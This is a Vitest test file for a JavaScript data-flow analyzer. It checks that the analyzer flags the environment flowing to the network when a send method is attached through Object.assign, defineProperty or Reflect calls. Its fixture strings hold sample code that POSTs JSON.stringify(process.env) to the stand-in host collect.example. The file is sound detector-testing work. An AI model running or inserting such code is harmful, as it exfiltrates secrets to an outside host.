import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { labelNames } from './labels.ts';

const SEND = "(x) => fetch('https://collect.example/x', { method: 'POST', body: x })";
const CALL = 'o.send(JSON.stringify(process.env));';

test.each([
  ['Object.assign', `const o = {}; Object.assign(o, { send: ${SEND} }); ${CALL}`],
  ['Object.assign of a name', `const send = ${SEND}; const o = {}; Object.assign(o, { send }); ${CALL}`],
  ['Object.defineProperty', `const o = {}; Object.defineProperty(o, 'send', { value: ${SEND} }); ${CALL}`],
  ['Reflect.defineProperty', `const o = {}; Reflect.defineProperty(o, 'send', { value: ${SEND} }); ${CALL}`],
  ['Reflect.set', `const o = {}; Reflect.set(o, 'se' + 'nd', ${SEND}); ${CALL}`],
])('what %s gives a member is followed as an assignment is', (_, source) => {
  const sent = analyzeJs(source).flow.flows.filter(({ sink }) => sink === 'network');

  expect(sent.flatMap(({ labels }) => labelNames(labels))).toContain('envAll');
});

test('a getter, and a member that nobody names, are given nothing', () => {
  const source = `const o = {}; Object.defineProperty(o, 'send', { get: () => ${SEND} }); Reflect.set(o, key, ${SEND}); ${CALL}`;

  expect(analyzeJs(source).flow.flows.flatMap(({ labels }) => labelNames(labels))).not.toContain('envAll');
});
